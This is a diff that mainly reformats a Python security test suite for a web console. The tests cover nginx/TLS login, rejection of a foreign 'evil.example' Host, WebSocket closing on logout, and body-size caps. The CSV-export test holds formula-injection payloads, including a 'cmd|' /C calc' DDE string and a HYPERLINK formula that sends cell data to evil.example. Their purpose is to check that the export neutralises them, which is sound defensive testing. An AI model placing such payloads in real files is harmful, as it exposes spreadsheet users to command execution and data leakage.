@@ -21,8 +21,9 @@ from tests.deploy.console.test_hostile_stations import metric
 def _post_login(base: str, user: str, password: str, headers: dict | None = None):
     c = Client(base)
     form = urllib.parse.urlencode({"user": user, "password": password}).encode()
-    return c.request("POST", "/login", form, {"content-type": "application/x-www-form-urlencoded",
-                                              "origin": base, **(headers or {})})
+    return c.request(
+        "POST", "/login", form, {"content-type": "application/x-www-form-urlencoded", "origin": base, **(headers or {})}
+    )
 
 
 def _status_kb(pid: int, key: str) -> int:
@@ -103,7 +104,7 @@ def _site_block() -> str:
 
     text = (ROOT / "docs/console-proxy.md").read_text()
     start = text.index("    location / {")
-    return text[start:text.index("    }\n", start) + 6].replace("127.0.0.1:8470", "127.0.0.1:{console_port}")
+    return text[start : text.index("    }\n", start) + 6].replace("127.0.0.1:8470", "127.0.0.1:{console_port}")
 
 
 @pytest.fixture
@@ -117,18 +118,39 @@ def nginx(tmp_path):
     exe = _nginx()
     root = tmp_path / "nginx"
     root.mkdir()
-    subprocess.run([require_tool("openssl"), "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
-                    "-subj", "/CN=console.test", "-keyout", str(root / "key.pem"), "-out", str(root / "cert.pem")],
-                   check=True, capture_output=True)
+    subprocess.run(
+        [
+            require_tool("openssl"),
+            "req",
+            "-x509",
+            "-newkey",
+            "rsa:2048",
+            "-nodes",
+            "-days",
+            "1",
+            "-subj",
+            "/CN=console.test",
+            "-keyout",
+            str(root / "key.pem"),
+            "-out",
+            str(root / "cert.pem"),
+        ],
+        check=True,
+        capture_output=True,
+    )
     port = free_port()
     procs = []
 
     def start(console_port: int) -> None:
         site = _site_block().replace("{console_port}", str(console_port))
-        (root / "nginx.conf").write_text(NGINX_CONF.format(root=root, port=port, site=site,
-                                                           user="user root;" if os.geteuid() == 0 else ""))
-        procs.append(subprocess.Popen([exe, "-p", str(root), "-c", str(root / "nginx.conf"), "-g", "daemon off;"],
-                                      stderr=subprocess.PIPE))
+        (root / "nginx.conf").write_text(
+            NGINX_CONF.format(root=root, port=port, site=site, user="user root;" if os.geteuid() == 0 else "")
+        )
+        procs.append(
+            subprocess.Popen(
+                [exe, "-p", str(root), "-c", str(root / "nginx.conf"), "-g", "daemon off;"], stderr=subprocess.PIPE
+            )
+        )
 
         def listening() -> bool:
             try:
@@ -137,7 +159,9 @@ def nginx(tmp_path):
             except OSError:
                 assert procs[0].poll() is None, procs[0].stderr.read().decode()
                 return False
+
         wait_for(listening, 15, "nginx to listen")
+
     yield start, port
     for p in procs:
         p.terminate()
@@ -157,17 +181,23 @@ def _https(port: int, method: str, path: str, host: str, body: bytes | None = No
 
 
 def test_https_behind_a_real_nginx_logs_in_and_streams(console_factory, nginx):
-    from websockets.sync.client import connect
     import ssl
 
+    from websockets.sync.client import connect
+
     start, port = nginx
-    con = console_factory([], forwarded_allow_ips=["127.0.0.1"], allowed_hosts=["console.test"],
-                          secure_cookies=True)
+    con = console_factory([], forwarded_allow_ips=["127.0.0.1"], allowed_hosts=["console.test"], secure_cookies=True)
     start(int(con.base.rsplit(":", 1)[1]))
     site = f"https://console.test:{port}"
     form = urllib.parse.urlencode({"user": "olga", "password": USERS["olga"][1]}).encode()
-    status, _, headers = _https(port, "POST", "/login", f"console.test:{port}", form,
-                                {"content-type": "application/x-www-form-urlencoded", "origin": site})
+    status, _, headers = _https(
+        port,
+        "POST",
+        "/login",
+        f"console.test:{port}",
+        form,
+        {"content-type": "application/x-www-form-urlencoded", "origin": site},
+    )
     assert status == 303 and headers["location"] == "/", status  # was 403: Origin https:// vs http://
     cookie = headers["set-cookie"].split(";")[0]
     assert "Secure" in headers["set-cookie"]
@@ -175,8 +205,14 @@ def test_https_behind_a_real_nginx_logs_in_and_streams(console_factory, nginx):
     assert status == 200 and b'"olga"' in body
     ctx = ssl.create_default_context()
     ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
-    with connect(f"wss://console.test:{port}/ws", sock=socket.create_connection(("127.0.0.1", port)), ssl=ctx,
-                 origin=site, additional_headers={"Cookie": cookie}, open_timeout=10) as ws:
+    with connect(
+        f"wss://console.test:{port}/ws",
+        sock=socket.create_connection(("127.0.0.1", port)),
+        ssl=ctx,
+        origin=site,
+        additional_headers={"Cookie": cookie},
+        open_timeout=10,
+    ) as ws:
         assert b'"full"' in ws.recv(timeout=10).encode()
     # a page on another name that resolves to the proxy (DNS rebinding) gets nothing
     assert _https(port, "GET", "/api/state", f"evil.example:{port}", headers={"cookie": cookie})[0] == 400
@@ -211,8 +247,12 @@ def test_a_foreign_host_gets_nothing_even_in_kiosk_mode(console_factory):
         evil = f"evil.example:{port}"
         assert c.request("GET", "/api/state", headers={"host": evil})[0] == 400
         with pytest.raises(InvalidStatus) as got:
-            with connect(f"ws://{evil}/ws", sock=socket.create_connection(("127.0.0.1", port)),
-                         origin=f"http://{evil}", open_timeout=10) as ws:
+            with connect(
+                f"ws://{evil}/ws",
+                sock=socket.create_connection(("127.0.0.1", port)),
+                origin=f"http://{evil}",
+                open_timeout=10,
+            ) as ws:
                 ws.recv(timeout=5)
         assert got.value.response.status_code == 400
     finally:
@@ -230,11 +270,22 @@ def test_logout_closes_the_live_websocket(console_factory):
         c = Client(con.base)
         assert c.login("olga") == 200
         cookie = "; ".join(f"{k.name}={k.value}" for k in c.jar)
-        with connect(con.base.replace("http", "ws") + "/ws", origin=con.base, additional_headers={"Cookie": cookie},
-                     open_timeout=10) as ws:
+        with connect(
+            con.base.replace("http", "ws") + "/ws",
+            origin=con.base,
+            additional_headers={"Cookie": cookie},
+            open_timeout=10,
+        ) as ws:
             ws.recv(timeout=10)
-            assert c.request("POST", "/logout", f"csrf={c.csrf}".encode(),
-                             {"content-type": "application/x-www-form-urlencoded", "origin": con.base})[0] == 303
+            assert (
+                c.request(
+                    "POST",
+                    "/logout",
+                    f"csrf={c.csrf}".encode(),
+                    {"content-type": "application/x-www-form-urlencoded", "origin": con.base},
+                )[0]
+                == 303
+            )
             with pytest.raises(ConnectionClosed) as closed:
                 deadline = time.monotonic() + 10
                 while time.monotonic() < deadline:  # keep the stream busy: a live socket would get these
@@ -251,11 +302,17 @@ def test_csv_export_neutralises_formulas(console_factory):
     try:
         con = console_factory([{"name": "st1", "endpoint": st.endpoint}])
         wait_for(lambda: (st.status({"cam1": True}), con.health()["received"]["status"] > 0)[1], 10, "heartbeat")
-        evil_model = {"name": "@SUM(1+1)*cmd|' /C calc'!A0", "version": "=1+2", "precision": "+x",
-                      "artifact": "-y", "backend": "z"}
+        evil_model = {
+            "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "version": "=1+2",
+            "precision": "+x",
+            "artifact": "-y",
+            "backend": "z",
+        }
         msg = st.verdict("cam1", 1, "defect", model=evil_model)
-        msg_src = {"source": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}
+        msg_src = {"source": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
         from deploy.console.loadgen import verdict_message
+
         st.send("st1.cam1.defect", verdict_message("st1", "cam1", 2, "defect") | msg_src)
         st.send("st1.cam1.ok", verdict_message("st1", "cam1", 3) | {"source": "\t=cmd|' /C calc'!A0"})
         wait_for(lambda: con.health()["recorded"] == 3, 10, "3 verdicts")
@@ -267,7 +324,7 @@ def test_csv_export_neutralises_formulas(console_factory):
         assert status == 200 and msg["seq"] == 1
         cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], body.decode()[:2000]
-        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'=1+2" in cells
+        assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "'=1+2" in cells
     finally:
         st.close()
 
@@ -286,8 +343,10 @@ def test_request_bodies_are_capped_without_being_read(console_factory):
     port = int(con.base.rsplit(":", 1)[1])
     rss_before = _status_kb(con.proc.pid, "VmRSS")
     s = socket.create_connection(("127.0.0.1", port), 10)
-    s.sendall(b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/x-www-form-urlencoded\r\n"
-              b"content-length: 314572800\r\n\r\n" + b"a" * 65536)
+    s.sendall(
+        b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/x-www-form-urlencoded\r\n"
+        b"content-length: 314572800\r\n\r\n" + b"a" * 65536
+    )
     s.settimeout(10)
     assert s.recv(200).startswith(b"HTTP/1.1 413")  # answered at once, not after 300 MiB
     s.close()
@@ -316,11 +375,27 @@ def test_a_group_readable_curve_secret_key_is_refused(tmp_path, user_hashes):
     srv_pub, _ = zmq.auth.create_certificates(tmp_path, "station")
     _, cli_sec = zmq.auth.create_certificates(tmp_path, "console")
     os.chmod(cli_sec, 0o640)
-    cfg = write_console_config(tmp_path / "c.toml", [{"name": "st1", "endpoint": "tcp://127.0.0.1:1", "curve": {
-        "server_public_key": str(srv_pub), "client_secret_key": str(cli_sec)}}],
-        f"sqlite:///{tmp_path / 'r.db'}", user_hashes, 1)
+    cfg = write_console_config(
+        tmp_path / "c.toml",
+        [
+            {
+                "name": "st1",
+                "endpoint": "tcp://127.0.0.1:1",
+                "curve": {"server_public_key": str(srv_pub), "client_secret_key": str(cli_sec)},
+            }
+        ],
+        f"sqlite:///{tmp_path / 'r.db'}",
+        user_hashes,
+        1,
+    )
     code = "import sys; from defectscope.cli import main; sys.exit(main(sys.argv[1:]))"
-    r = subprocess.run([sys.executable, "-c", code, "console", "--config", str(cfg)], capture_output=True, text=True,
-                       cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT)), timeout=60)
+    r = subprocess.run(
+        [sys.executable, "-c", code, "console", "--config", str(cfg)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=dict(os.environ, PYTHONPATH=str(ROOT)),
+        timeout=60,
+    )
     assert r.returncode == 2 and "stations[0].curve.client_secret_key" in r.stderr and "0640" in r.stderr, r.stderr
     assert "Traceback" not in r.stderr
